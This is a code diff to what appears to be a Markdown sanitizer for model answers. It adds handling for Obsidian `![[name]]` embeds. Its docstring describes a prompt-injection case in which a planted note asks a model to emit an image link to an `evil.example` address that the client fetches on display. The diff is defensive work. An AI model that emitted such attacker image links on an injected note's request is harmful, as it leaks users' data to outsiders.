@@ -4,7 +4,8 @@ Whoever can put a note before a model can ask it to write `![](https://evil.exam
 which a client fetches as soon as it shows it. So in an answer
 
 - `<` that could open a tag, a comment or an autolink becomes `‹`;
-- no `[` follows a `!`: images with an address that may stay become links, others their description;
+- no `[` follows a `!` but in `![[name]]`, which CommonMark does not read: images with an address that may stay become
+  links, others their description;
 - `[text](address)` stays where the address stands in one of the texts that the caller gives and leads to a web page
   or a mailbox (its title goes); otherwise `text` is left of it, in its brackets where it could join with what stands
   beside it;
@@ -49,6 +50,8 @@ _MAILBOX = re.compile(r"[\w.+-]{1,64}\Z")
 _HOST = re.compile(r"@[\w.-]{1,255}")
 _HARMLESS_AFTER_LESS = frozenset(" \t\n0123456789=-<‹")
 _LABEL = re.compile(r"\[N\d+\]")
+_EMBEDDED = re.compile(r"!\[\[(?P<name>[\w \t.,;'’&()/#^|%+-]{1,300})\]\]")
+"""How Obsidian shows a file of the vault in a note."""
 _JOINS_BEFORE, _JOINS_AFTER = frozenset(" \t\n(*_\"“'"), frozenset(" \t\n.,;!?)*_\"”'")
 _CONTAINER = re.compile(r"[ \t>*+\-\d.):~]*")
 _INFO = re.compile(r"[ \t]*(?P<word>[\w+#.-]*)[ \t]*", re.ASCII)
@@ -223,7 +226,11 @@ class Sanitizer:
     # -- links
 
     def _image(self) -> None:
-        if not self._link(1):
+        embedded = _EMBEDDED.match(self._text, self._at)
+        if embedded and not _ADDRESS.search(embedded["name"]) and not _label().fullmatch(skeleton(embedded["name"])):
+            self._may_define = False
+            self._take(embedded[0])
+        elif not self._link(1):
             self._take("!")
 
     def _bracket(self) -> None:
